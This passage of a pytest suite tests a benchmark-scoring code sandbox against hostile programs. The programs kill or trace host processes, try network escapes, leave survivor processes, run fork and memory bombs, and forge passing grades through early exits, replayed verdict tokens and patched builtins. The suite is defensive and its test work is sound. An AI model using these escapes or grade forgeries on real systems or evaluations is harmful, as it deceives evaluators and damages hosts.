    # otherwise used up 4096 host PIDs in 16 MB).
    program = "import threading\nthreading.Thread(target=print).start()\n"
    result = sandbox_execute(program)
    assert not result.passed and "can't start new thread" in result.stderr
    assert sandbox_execute("out = [i * i for i in range(8)]\nassert sum(out) == 140\n").passed


# ------------------------------------------------------------------------------------------------
# other processes: the test's own pid (SIGUSR1 handler), a helper sleeper in its own session


@pytest.fixture(scope="module")
def sleeper():
    p = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)
    time.sleep(0.1)
    yield p
    p.kill()
    p.wait()


@pytest.fixture
def usr1_catcher():
    got = []
    old = signal.signal(signal.SIGUSR1, lambda *a: got.append(a))
    try:
        yield got
    finally:
        signal.signal(signal.SIGUSR1, old)


OTHER_PROCESS_ATTACKS = {
    "kill": "os.kill(HOST, signal.SIGUSR1)\nos.kill(SLEEPER, signal.SIGKILL)\n",
    "killpg": "os.killpg(SLEEPER_PGID, signal.SIGKILL)\nos.killpg(HOST_PGID, signal.SIGUSR1)\n",
    "pidfd_send_signal": ("fd = os.pidfd_open(SLEEPER)\nsignal.pidfd_send_signal(fd, signal.SIGKILL)\n"
                          "signal.pidfd_send_signal(os.pidfd_open(HOST), signal.SIGUSR1)\n"),
    "setpriority": r'''
ok = []
for which, who in ((os.PRIO_PROCESS, HOST), (os.PRIO_PROCESS, SLEEPER), (os.PRIO_PGRP, SLEEPER_PGID),
                   (os.PRIO_USER, os.getuid()), (os.PRIO_USER, 0)):
    try:
        os.setpriority(which, who, 19); ok.append((which, who))
    except OSError as e:
        print("BLOCKED", which, who, e)
assert len(ok) == 5, ok
''',
    "kill_all": "os.kill(-1, signal.SIGKILL)\nraise SystemExit(1)\n",
    "kill_parent_and_init": ("os.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)\n"
                             "time.sleep(0.2)\nraise SystemExit(1)\n"),
    "affinity_ioprio": r'''
import ctypes, platform
os.sched_setaffinity(HOST, {0})
libc = ctypes.CDLL(None, use_errno=True)
IOPRIO_SET = {"x86_64": 251, "aarch64": 30}[platform.machine()]
assert libc.syscall(IOPRIO_SET, 1, HOST, (3 << 13) | 7) == 0, ctypes.get_errno()  # idle class
''',
    "ptrace_process_vm": r'''
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
PTRACE = {"x86_64": 101, "aarch64": 117}[platform.machine()]
PTRACE_SEIZE = 0x4206
blocked = []
for pid in (HOST, SLEEPER):
    if libc.syscall(PTRACE, PTRACE_SEIZE, pid, 0, 0) != 0:
        blocked.append(("ptrace", pid, ctypes.get_errno()))
    try:
        open(f"/proc/{pid}/mem", "rb")
    except OSError as e:
        blocked.append(("mem", pid, e.errno))
    try:
        os.kill(pid, 0)
    except OSError as e:
        blocked.append(("exists", pid, e.errno))
assert not blocked, blocked
''',
    "signal_via_fd_and_tty": r'''
import fcntl, termios
# a controlling-terminal trick (TIOCSTI) and F_SETOWN signal delivery to a host pid
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
    except OSError as e:
        print("BLOCKED TIOCSTI", fd, e)
r, w = os.pipe()
fcntl.fcntl(r, fcntl.F_SETOWN, HOST)
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)
fcntl.fcntl(r, fcntl.F_SETSIG, signal.SIGUSR1)
os.write(w, b"x")
os.kill(SLEEPER, signal.SIGKILL)
''',
}


def _nice(pid):
    return os.getpriority(os.PRIO_PROCESS, pid)


@pytest.mark.parametrize("name", sorted(OTHER_PROCESS_ATTACKS))
def test_other_processes_cannot_be_signalled_or_reniced(name, sleeper, usr1_catcher):
    me = os.getpid()
    before = (_nice(me), _nice(sleeper.pid), os.sched_getaffinity(me))
    program = fill("import os, signal, sys, time\nHOST, HOST_PGID, SLEEPER, SLEEPER_PGID = @H@, @HG@, @S@, @SG@\n",
                   H=me, HG=os.getpgid(me), S=sleeper.pid, SG=os.getpgid(sleeper.pid)) + OTHER_PROCESS_ATTACKS[name]
    result = sandbox_execute(program, timeout_s=3.0)
    time.sleep(0.2)
    assert sleeper.poll() is None, f"ESCAPE: {name} killed the host's sleeper process"
    assert not usr1_catcher, f"ESCAPE: {name} signalled the test process"
    assert (_nice(me), _nice(sleeper.pid), os.sched_getaffinity(me)) == before, f"ESCAPE: {name} reniced a host process"
    with open(f"/proc/{me}/status") as f:
        assert re.search(r"^TracerPid:\s+0$", f.read(), re.MULTILINE), "ESCAPE: the test process is being traced"
    assert not result.passed, (result.stdout, result.stderr)


def test_other_processes_control_own_process_may_be_signalled_and_reniced(sleeper):
    program = ("import os, signal\nos.setpriority(os.PRIO_PROCESS, 0, 5)\n"
               "assert os.getpriority(os.PRIO_PROCESS, 0) == 5\n"
               "signal.signal(signal.SIGUSR1, lambda *a: None)\nos.kill(os.getpid(), signal.SIGUSR1)\n"
               "os.sched_setaffinity(0, os.sched_getaffinity(0))\n")
    assert sandbox_execute(program).passed
    assert sleeper.poll() is None


# ------------------------------------------------------------------------------------------------
# network: host listeners (TCP v4 on all addresses, TCP v6, UDP, abstract and path unix sockets) must
# see nothing


class Listeners:
    def __init__(self, tmpdir):
        self.accepted, self.datagrams = [], []
        self.socks = {}
        tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        tcp.bind(("0.0.0.0", 0))
        tcp.listen(16)
        self.socks["tcp"] = tcp
        self.port = tcp.getsockname()[1]
        try:
            tcp6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            tcp6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            tcp6.bind(("::1", 0))
            tcp6.listen(16)
            self.socks["tcp6"] = tcp6
            self.port6 = tcp6.getsockname()[1]
        except OSError:
            self.port6 = None
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("0.0.0.0", 0))
        self.socks["udp"] = udp
        self.udp_port = udp.getsockname()[1]
        self.abstract = f"\0hostile-{secrets.token_hex(8)}"
        ab = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        ab.bind(self.abstract)
        ab.listen(16)
        self.socks["abstract"] = ab
        self.unix_path = os.path.join(tmpdir, "host.sock")
        ux = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        ux.bind(self.unix_path)
        ux.listen(16)
        self.socks["unix"] = ux
        self.lan_ip = self._lan_ip()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @staticmethod
    def _lan_ip():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.connect(("10.255.255.255", 1))  # no packet is sent; picks the outgoing interface
            ip = s.getsockname()[0]
            return None if ip.startswith("127.") else ip
        except OSError:
            return None
        finally:
            s.close()

    def _serve(self):
        while not self._stop.is_set():
            ready, _, _ = select.select(list(self.socks.values()), [], [], 0.05)
            for s in ready:
                if s is self.socks["udp"]:
                    self.datagrams.append(s.recvfrom(65536))
                else:
                    conn, addr = s.accept()
                    self.accepted.append(addr)
                    conn.close()

    def events(self):
        return len(self.accepted) + len(self.datagrams)

    def close(self):
        self._stop.set()
        self._thread.join(2)
        for s in self.socks.values():
            s.close()


@pytest.fixture(scope="module")
def listeners(tmp_path_factory):
    ls = Listeners(str(tmp_path_factory.mktemp("net")))
    # the listeners work: a host-side connection is seen
    socket.create_connection(("127.0.0.1", ls.port), timeout=2).close()
    deadline = time.time() + 2
    while ls.events() == 0 and time.time() < deadline:
        time.sleep(0.01)
    assert ls.events() == 1
    yield ls
    ls.close()


NETWORK_ATTACKS = {
    "tcp_loopback": "s = socket.create_connection(('127.0.0.1', PORT), timeout=1)\ns.sendall(b'pwned')\n",
    "raw_socket_module": ("import _socket\ns = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\ns.settimeout(1)\n"
                          "s.connect(('127.0.0.1', PORT))\n"),
    "tcp_lan_address": "s = socket.create_connection((LAN_IP or '127.0.0.1', PORT), timeout=1)\n",
    "tcp_ipv6_loopback": "s = socket.create_connection(('::1', PORT6 or PORT), timeout=1)\n",
    "udp_loopback": ("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                     "for ip in ('127.0.0.1', LAN_IP or '127.0.0.1', '255.255.255.255'):\n"
                     "    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
                     "    assert s.sendto(b'pwned', (ip, UDP_PORT)) == 5\n"
                     "time.sleep(0.2)\nraise SystemExit(1)\n"),
    "abstract_unix_socket": "s = socket.socket(socket.AF_UNIX)\ns.settimeout(1)\ns.connect(ABSTRACT)\n",
    "path_unix_socket": "s = socket.socket(socket.AF_UNIX)\ns.settimeout(1)\ns.connect(UNIX_PATH)\n",
    "external_tcp": r'''
ok = []
for addr in (("1.1.1.1", 53), ("8.8.8.8", 443), ("example.com", 80), ("2606:4700:4700::1111", 53)):
    try:
        socket.create_connection(addr, timeout=1).close(); ok.append(addr); print("CONNECTED", addr)
    except OSError as e:
        print("BLOCKED", addr, e)
assert ok
''',
    "dns_lookup": "print('CONNECTED', socket.getaddrinfo('pypi.org', 443))\n",
    "raw_and_packet_sockets": r'''
ok = []
for args in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0),
             (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)):
    try:
        s = socket.socket(*args)
        s.sendto(b"\x08\x00\xf7\xff" + b"\x00" * 4, ((LAN_IP or "127.0.0.1"), 0)) if args[0] == socket.AF_INET else None
        ok.append(args)
    except OSError as e:
        print("BLOCKED", args, e)
assert len(ok) == 3, ok
''',
}


@pytest.mark.parametrize("name", sorted(NETWORK_ATTACKS))
def test_network_cannot_reach_the_host_or_outside(name, listeners):
    before = listeners.events()
    program = fill("import socket, sys, time\nPORT, PORT6, UDP_PORT, ABSTRACT, UNIX_PATH, LAN_IP = "
                   "@P@, @P6@, @U@, @A@, @X@, @L@\n",
                   P=listeners.port, P6=listeners.port6 or 0, U=listeners.udp_port, A=listeners.abstract,
                   X=listeners.unix_path, L=listeners.lan_ip) + NETWORK_ATTACKS[name]
    result = sandbox_execute(program, timeout_s=5.0)
    time.sleep(0.2)
    assert listeners.events() == before, \
        f"ESCAPE: {name} reached a host listener: {listeners.accepted} {listeners.datagrams}"
    assert "CONNECTED" not in result.stdout, result.stdout
    assert not result.passed, result.stdout


def test_network_control_loopback_inside_the_sandbox_works():
    program = r'''
import socket
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen()
c = socket.create_connection(srv.getsockname(), timeout=2)
conn, _ = srv.accept()
conn.sendall(b"hi")
assert c.recv(2) == b"hi"
'''
    assert sandbox_execute(program).passed


# ------------------------------------------------------------------------------------------------
# survivors: nothing of the sandbox may run after it returns. Each program names its threads with a
# token (/proc/<pid>/task/<tid>/comm) and tries to write a host marker; 1 s after the return the host
# looks for both.


def _threads_named(token):
    found = []
    for comm in Path("/proc").glob("[0-9]*/task/[0-9]*/comm"):
        try:
            if comm.read_text().strip() == token:
                found.append(str(comm))
        except OSError:
            pass
    return found


SURVIVOR_PRELUDE = r'''
import os, sys, time, threading, signal
TOKEN, MARK = @TOKEN@, @MARK@
def name_me():
    try:
        with open("/proc/thread-self/comm", "w") as f:
            f.write(TOKEN)
    except OSError:
        pass
def keep_writing():
    name_me()
    while True:
        try:
            with open(MARK, "a") as f:
                f.write("alive\n")
        except OSError:
            pass
        try:
            os.write(1, b"alive\n")
        except OSError:
            pass
        time.sleep(0.05)
name_me()
'''

SURVIVOR_ATTACKS = {
    "daemon_thread_after_exit": ("t = threading.Thread(target=lambda: (time.sleep(0.3), keep_writing()), daemon=True)\n"
                                 "t.start()\nraise SystemExit(1)\n"),
    "non_daemon_thread": "threading.Thread(target=keep_writing).start()\nraise SystemExit(1)\n",
    "fork_child_keeps_writing": "if os.fork() == 0:\n    keep_writing()\n",
    "double_fork_setsid": ("if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        keep_writing()\n"
                           "    os._exit(0)\n"),
    "setsid_setpgid_ignore_signals": r'''
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGXCPU, signal.SIGPIPE):
    signal.signal(s, signal.SIG_IGN)
for fn in (os.setsid, lambda: os.setpgid(0, 0)):
    try:
        fn()
    except OSError as e:
        print("BLOCKED", e)
threading.Thread(target=keep_writing, daemon=False).start()
os.close(1); os.close(2)
''',
    "atexit_and_exit_handlers": r'''
import atexit
atexit.register(keep_writing)
threading.Thread(target=lambda: (time.sleep(0.2), keep_writing())).start()
raise SystemExit(1)
''',
}


@pytest.mark.parametrize("name", sorted(SURVIVOR_ATTACKS))
def test_survivors_nothing_runs_after_the_sandbox_returns(name, victims):
    token = "hz" + secrets.token_hex(6)
    program = fill(SURVIVOR_PRELUDE, TOKEN=token, MARK=str(victims.host_marker)) + SURVIVOR_ATTACKS[name]
    result, wall = timed(sandbox_execute, program, timeout_s=1.0)
    assert wall < 5
    time.sleep(1.0)
    assert not _threads_named(token), f"ESCAPE: {name} left threads running: {_threads_named(token)}"
    assert not victims.host_marker.exists()
    assert not result.passed


def test_survivors_run_check_candidate_thread_dies_with_the_harness(victims):
    token = "hz" + secrets.token_hex(6)
    candidate = fill(SURVIVOR_PRELUDE, TOKEN=token, MARK=str(victims.host_marker)) + (
        "threading.Thread(target=keep_writing).start()\ndef f():\n    return 1\n")
    result, wall = timed(run_check, candidate, "assert candidate('f')() == 2\n", timeout_s=2.0)
    assert wall < 6
    time.sleep(1.0)
    assert not _threads_named(token), "ESCAPE: the candidate sandbox outlived run_check"
    assert not victims.host_marker.exists()
    assert not result.passed


def test_survivors_control_a_running_sandbox_thread_is_seen_by_the_host_check():
    """The survivor check can see a named sandbox thread while the sandbox runs, so an empty scan after
    the return means something."""
    token = "hz" + secrets.token_hex(6)
    program = fill(SURVIVOR_PRELUDE, TOKEN=token, MARK="/sandbox/m") + "time.sleep(1.5)\n"
    box = []
    t = threading.Thread(target=lambda: box.append(sandbox_execute(program, timeout_s=5.0)))
    t.start()
    seen = []
    deadline = time.time() + 1.4
    while not seen and time.time() < deadline:
        seen = _threads_named(token)
        time.sleep(0.05)
    t.join()
    assert seen and box[0].passed
    assert not _threads_named(token)


def test_survivors_control_a_program_that_finishes_passes():
    token = "hz" + secrets.token_hex(6)
    program = fill(SURVIVOR_PRELUDE, TOKEN=token, MARK="/sandbox/m") + "name_me()\n"
    assert sandbox_execute(program).passed
    assert not _threads_named(token)


SURVIVOR_HOSTILE = list(SURVIVOR_ATTACKS) + ["run_check_candidate_thread"]


# ------------------------------------------------------------------------------------------------
# forged success: a wrong `add` (a - b) must score 0 however it tries to look right

ROW = {"prompt": 'def add(a, b):\n    """Return a + b."""\n',
       "test": "def check(candidate):\n    assert candidate(2, 3) == 5\n    assert candidate(-1, 1) == 0\n",
       "entry_point": "add"}
WRONG = "    return a - b\n"

# things a candidate may use to find and replay a verdict token
NONCE_HUNT = r'''
import gc, os, re, sys
_HEX = re.compile(rb"[0-9a-f]{32}")
def _tokens():
    found = set()
    for o in gc.get_objects():
        if isinstance(o, dict):
            for v in list(o.values()):
                if isinstance(v, (bytes, str)) and len(v) == 32:
                    found.add(v.encode() if isinstance(v, str) else v)
    m = sys.modules.get("__main__")
    for v in list(vars(m).values()) if m else []:
        if isinstance(v, (bytes, str)) and len(v) == 32:
            found.add(v.encode() if isinstance(v, str) else v)
    f = sys._getframe()
    while f is not None:
        for d in (f.f_locals, f.f_globals):
            for v in list(d.values()):
                if isinstance(v, bytes) and len(v) == 32:
                    found.add(v)
        f = f.f_back
    for p in ("/proc/self/cmdline", "/proc/1/cmdline", "/proc/self/environ", "/proc/2/cmdline", "/proc/3/cmdline"):
        try:
            found.update(_HEX.findall(open(p, "rb").read()))
        except OSError:
            pass
    return found
def _spray():
    toks = _tokens()
    for fd in range(0, 256):
        for t in toks:
            try:
                os.write(fd, t)
            except OSError:
                break
'''

HUMANEVAL_FORGERIES = {
    "os_exit_at_import": WRONG + "import os\nos._exit(0)\n",
    "sys_exit_at_import": WRONG + "import sys\nsys.exit(0)\n",
    "print_pass_marker": WRONG + "print('PASSED'); print('ALL TESTS PASSED'); print(True)\n",
    "nonce_from_main_gc_frames_proc": WRONG + NONCE_HUNT + "_spray()\n",
    "nonce_spray_inside_call": ("    _spray()\n    import os\n    os._exit(0)\n" + NONCE_HUNT),
    "monkeypatch_builtins": WRONG + r'''
import builtins
class _Never(BaseException):
    pass
builtins.AssertionError = _Never
_real_import = builtins.__import__
builtins.__import__ = lambda name, *a, **k: _real_import(name, *a, **k)
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: int
''',
    "eq_always_true": ("    class Eq:\n        __eq__ = lambda s, o: True\n        __ne__ = lambda s, o: False\n"
                       "    return Eq()\n"),
    "int_subclass_eq_true": "    class I(int):\n        __eq__ = lambda s, o: True\n    return I(0)\n",
    "system_exit_inside": "    raise SystemExit(0)\n",
    "keyboard_interrupt_inside": "    raise KeyboardInterrupt\n",
    "kill_parent_at_import": WRONG + "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
    "kill_parent_inside": ("    import os, signal\n    os.kill(os.getppid(), signal.SIGKILL)\n"
                           "    os.kill(1, signal.SIGKILL)\n"),
    "write_every_fd": WRONG + r'''
import os
for fd in range(256):
    for msg in (b'{"value": true}\n', b"PASSED\n", b'{"value": 5}\n' * 1000):
        try:
            os.write(fd, msg)
        except OSError:
            break
''',
    "stop_iteration": "    raise StopIteration\n",
    "huge_reply": "    x = [0]\n    for _ in range(50):\n        x = [x]\n    return [x] * 10**6\n",
    "hang_forever": WRONG + "import time\nwhile True:\n    time.sleep(1)\n",
}


def test_forged_control_correct_scores_one_and_wrong_scores_zero():
    assert score_humaneval(ROW, "    return a + b\n") == 1
    assert score_humaneval(ROW, WRONG) == 0


@pytest.mark.parametrize("name", sorted(HUMANEVAL_FORGERIES))
def test_forged_success_humaneval_wrong_answer_scores_zero(name):
    score, wall = timed(score_humaneval, ROW, HUMANEVAL_FORGERIES[name], timeout_s=2.0)
    assert score == 0, f"ESCAPE: forged HumanEval success with {name}"
    assert wall < 8


def test_forged_stop_iteration_through_map_in_a_test():
    """Candidate errors reach the harness as the builtin exception they name, except StopIteration and
    StopAsyncIteration: inside map() inside all() those would end the iteration and forge a pass."""
    row = {"prompt": ROW["prompt"],
           "test": "def check(candidate):\n    assert all(map(lambda p: candidate(*p) == sum(p), [(2, 3), (-1, 1)]))\n",
           "entry_point": "add"}
    assert score_humaneval(row, "    return a + b\n") == 1
    assert score_humaneval(row, "    raise StopIteration\n") == 0, "ESCAPE: StopIteration forged a pass"


CODEIO_REFERENCE = ("def main_solution(a, b):\n    return {'sum': a + b, 'items': [a, b], 'ratio': a / (abs(b) + 1)}\n")
CODEIO_INPUTS = [{"a": 2, "b": 3}, {"a": -1, "b": 1}]
CODEIO_WRONG = "def main_solution(a, b):\n    return {'sum': a - b, 'items': [a, b], 'ratio': 0.0}\n"

CODEIO_FORGERIES = {
    "os_exit_at_import": CODEIO_WRONG + "import os\nos._exit(0)\n",
    "sys_exit_at_import": CODEIO_WRONG + "raise SystemExit(0)\n",
    "print_marker": CODEIO_WRONG + "print('True'); print('PASSED')\n",
    "eq_always_true": ("class Eq(dict):\n    __eq__ = lambda s, o: True\n"
                       "def main_solution(a, b):\n    return Eq()\n"),
    "system_exit_inside": "def main_solution(a, b):\n    raise SystemExit(0)\n",
    "kill_parent": CODEIO_WRONG.replace("    return", "    import os\n    os.kill(os.getppid(), 9)\n    return"),
    "write_every_fd_and_nonce": CODEIO_WRONG + NONCE_HUNT + "_spray()\n" + r'''
for fd in range(256):
    try:
        os.write(fd, b'{"value": {"d": [["sum", 5]]}}\n')
    except OSError:
        pass
''',
    "monkeypatch_json_and_builtins": CODEIO_WRONG + r'''
import builtins, json
json.dumps = lambda *a, **k: "null"
json.loads = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (BaseException,), {})
''',
    "deeply_nested_reply": ("def main_solution(a, b):\n    x = []\n    for _ in range(100000):\n        x = [x]\n"
                            "    return x\n"),
}


def test_forged_control_codeio_correct_scores_one_and_wrong_scores_zero():
    assert score_codeio(CODEIO_REFERENCE, CODEIO_REFERENCE, CODEIO_INPUTS) == 1
    assert score_codeio(CODEIO_WRONG, CODEIO_REFERENCE, CODEIO_INPUTS) == 0


@pytest.mark.parametrize("name", sorted(CODEIO_FORGERIES))
def test_forged_success_codeio_wrong_answer_scores_zero(name):
    score, wall = timed(score_codeio, CODEIO_FORGERIES[name], CODEIO_REFERENCE, CODEIO_INPUTS, timeout_s=2.0)
    assert score == 0, f"ESCAPE: forged codeio success with {name}"
    assert wall < 8


# ------------------------------------------------------------------------------------------------
# limits: every bomb fails, returns within a bounded time, and the sandbox still works afterwards

# writes 8 MB files until the tmpfs (32 MB cap) is full; @PREFIX@ = the folder
FILL_TMPFS = r'''
import os
total = 0
try:
    for i in range(1000):
        with open(f"@PREFIX@fill{i}", "wb") as f:
            for _ in range(8):
                f.write(b"x" * (1 << 20)); f.flush(); total += 1
except OSError as e:
    print("stopped", e)
print("TOTAL_MB", total)
assert total > 200
'''

LIMIT_ATTACKS = {  # name -> (program, timeout_s, wall bound)
    "bytearray_10e10": ("x = bytearray(10**10)\n", 3.0, 6),
    "growing_list": ("x = []\nwhile True:\n    x.append(' ' * 10**6)\n", 3.0, 6),
    "mmap_huge": ("import mmap\nm = mmap.mmap(-1, 1 << 36)\nm[:] = b'x'\n", 3.0, 6),
    "fork_bomb": ("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n", 1.0, 4),
    "thread_bomb": (r'''
import threading, time
n = 0
while True:
    try:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start(); n += 1
    except Exception as e:
        print("threads", n, e)
        break
assert n > 100000
''', 3.0, 6),
    "raw_clone_thread_bomb": (r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
flags = 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000  # CLONE_VM|FS|FILES|SIGHAND|THREAD|SYSVSEM
N, STACK = 4096, 4096  # kernel tasks parked in pause(): 4 KB each, far below any memory limit
stacks = ctypes.create_string_buffer(STACK * N)
fn = ctypes.cast(libc.pause, ctypes.c_void_p)
libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
n = 0
for i in range(N):
    if libc.clone(fn, (ctypes.addressof(stacks) + STACK * (i + 1)) & ~15, flags, None) < 0:
        print("stopped", ctypes.get_errno())
        break
    n += 1
print("TOTAL_TASKS", n)
assert n == N
''', 3.0, 6),
    "infinite_loop": ("while True:\n    pass\n", 1.0, 4),
    "cpu_threads_ignore_signals": (r'''
import signal, threading
for s in (signal.SIGTERM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
def spin():
    while True:
        pass
for _ in range(4):
    threading.Thread(target=spin).start()
''', 1.0, 4),
    "huge_stdout": ("import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n", 3.0, 8),
    "huge_stderr_os_write": ("import os\nwhile True:\n    os.write(2, b'e' * 65536)\n", 3.0, 8),
    "fill_tmp": (FILL_TMPFS.replace("@PREFIX@", "/tmp/"), 5.0, 8),
    "fill_work_dir": (FILL_TMPFS.replace("@PREFIX@", ""), 5.0, 8),
    "fill_dev_shm_and_dev": (r'''
import os
total = 0
try:  # at most 96 MB (3x the tmpfs cap), to stay harmless if /dev is not capped
    for d in ("/dev/shm", "/dev"):
        for i in range(6):
            with open(f"{d}/fill{i}", "wb") as f:
                for _ in range(8):
                    f.write(b"x" * (1 << 20)); f.flush(); total += 1
except OSError as e:
    print("stopped", e)
print("TOTAL_MB", total)
assert total >= 96
''', 5.0, 8),
    "memfd_beyond_memory_limit": (r'''
import os
fds, total = [], 0
try:  # memfd pages are RAM but not address space: up to 320 MB against memory_mb=256
    for i in range(32):
        fds.append(os.memfd_create(f"m{i}"))
        for _ in range(10):
            os.write(fds[-1], b"x" * (1 << 20)); total += 1
except OSError as e:
    print("stopped", e)
print("TOTAL_MB", total)
assert total >= 320
''', 5.0, 8),
    "huge_single_file": (r'''
total = 0
try:
    with open("big", "wb") as f:
        for _ in range(64):
            f.write(b"x" * (1 << 20)); f.flush(); total += 1
except OSError as e:
    print("stopped", e)
print("TOTAL_MB", total)
assert total == 64
''', 3.0, 6),
    "many_open_files": (r'''
import os, socket
fds = []
try:
    while True:
        fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e:
    print("stopped", e)
print("TOTAL_FDS", len(fds))
assert len(fds) > 100000
''', 3.0, 6),
    "deep_recursion": ("import sys\nsys.setrecursionlimit(10**8)\ndef f(n):\n    return f(n + 1) + 1\nf(0)\n", 3.0, 6),
    "sleep_past_timeout": ("import time\ntime.sleep(30)\n", 1.0, 4),
}


@pytest.mark.parametrize("name", sorted(LIMIT_ATTACKS))
def test_limits_bombs_fail_quickly_and_leave_the_host_alone(name):
    program, timeout_s, bound = LIMIT_ATTACKS[name]
    result, wall = timed(sandbox_execute, program, timeout_s=timeout_s, memory_mb=256)
    assert wall < bound, f"{name} took {wall:.1f}s"
    assert len(result.stdout) <= 4000 and len(result.stderr) <= 4000
    m = re.search(r"TOTAL_MB (\d+)", result.stdout)
    if m:  # the tmpfs (32 MB), RLIMIT_FSIZE (10 MB) and memory (256 MB) caps hold
        cap = {"huge_single_file": 10, "memfd_beyond_memory_limit": 256}.get(name, TMPFS_MB)
        assert int(m.group(1)) <= cap + 1, \
            f"ESCAPE (limits): {name} stored {m.group(1)} MB of host RAM/disk (cap {cap} MB)"
    m = re.search(r"TOTAL_FDS (\d+)", result.stdout)
    if m:
        assert int(m.group(1)) <= 256
    m = re.search(r"TOTAL_TASKS (\d+)", result.stdout)
    if m:  # 4096 tasks in 16 MB: at that rate one sandbox (memory_mb=512) could take every host PID (pid_max)
        assert int(m.group(1)) < 4096, f"ESCAPE (limits): {name} created {m.group(1)} kernel tasks (no pids limit)"
    assert not result.passed, (name, result.stdout[-500:], result.stderr[-500:])
    # the sandbox still works afterwards
    assert sandbox_execute("assert 1 + 1 == 2\n").passed


def test_limits_control_moderate_use_passes():
    program = r'''
import sys, threading
x = bytearray(50 << 20)
open("f", "wb").write(b"x" * (5 << 20))
open("/tmp/g", "wb").write(b"x" * (5 << 20))
fds = [open("f", "rb") for _ in range(100)]
def f(n):
    return 0 if n == 0 else f(n - 1) + 1
assert f(500) == 500
print("y" * 100000)
'''
    assert sandbox_execute(program, memory_mb=256).passed


# ------------------------------------------------------------------------------------------------
# cleanup: whatever the candidate leaves, sandbox_execute returns normally and the host temp dir is clean

CLEANUP_PROGRAM = r'''
import os, stat, socket, fcntl, struct
for base in (".", "/tmp"):
    os.makedirs(f"{base}/ro/deep/er", exist_ok=True)
    open(f"{base}/ro/deep/er/f", "w").write("x")
    os.chmod(f"{base}/ro/deep/er/f", 0)
    os.chmod(f"{base}/ro/deep/er", 0o500)
    os.chmod(f"{base}/ro/deep", 0)
    os.makedirs(f"{base}/sticky/x"); os.chmod(f"{base}/sticky", 0o1000)
    os.mkfifo(f"{base}/fifo")
    s = socket.socket(socket.AF_UNIX); s.bind(f"{base}/sock")
    os.symlink("/proc/self/fd/1", f"{base}/loop_out")
    os.symlink("loop_a", f"{base}/loop_b"); os.symlink("loop_b", f"{base}/loop_a")
    open(f"{base}/\udcff\n weird", "w")
    d = base
    for i in range(200):
        d = os.path.join(d, "n")
        os.mkdir(d)
    fd = os.open(f"{base}/ro", os.O_RDONLY)
    try:  # chattr +i (needs CAP_LINUX_IMMUTABLE): expected to fail
        fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0x10))
    except OSError as e:
        print("immutable refused", e)
    os.chmod(base, 0o500)
for fd in (1, 2):  # the host's capture files
    try:
        os.fchmod(fd, 0)
    except OSError:
        pass
print("done")
'''


def test_cleanup_never_raises_and_leaves_no_temp_files(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    result = sandbox_execute(CLEANUP_PROGRAM, timeout_s=5.0)
    assert result.passed, result.stderr
    assert os.listdir(tmp_path) == [], os.listdir(tmp_path)
    result = run_check(CLEANUP_PROGRAM + "def f():\n    return 1\n", "assert candidate('f')() == 1\n", timeout_s=5.0)
    assert result.passed, result.stderr
    assert os.listdir(tmp_path) == [], os.listdir(tmp_path)


CLEANUP_HOSTILE = ["sandbox_execute", "run_check"]


# ------------------------------------------------------------------------------------------------
# the corpus size stated in the module docstring

CORPUS = {
    "files": FILE_HOSTILE,
    "processes": list(PROCESS_ATTACKS),
    "other_processes": list(OTHER_PROCESS_ATTACKS),
    "network": list(NETWORK_ATTACKS),
    "survivors": SURVIVOR_HOSTILE,
    "forged_success": list(HUMANEVAL_FORGERIES) + ["stop_iteration_through_map"] + list(CODEIO_FORGERIES),
    "limits": list(LIMIT_ATTACKS),
    "cleanup": CLEANUP_HOSTILE,
}


def corpus_counts():
    counts = {k: len(v) for k, v in CORPUS.items()}
    counts["total"] = sum(counts.values())
    return counts


def test_corpus_size_matches_docstring():
    counts = corpus_counts()
    for k, n in counts.items():
        assert re.search(rf"^\s+{k} \.+\s+{n}\b", __doc__, re.MULTILINE), f"docstring count for {k} should be {n}"
    assert counts["total"] >= 40
    print("hostile programs:", counts)


if __name__ == "__main__":
    print(corpus_counts())
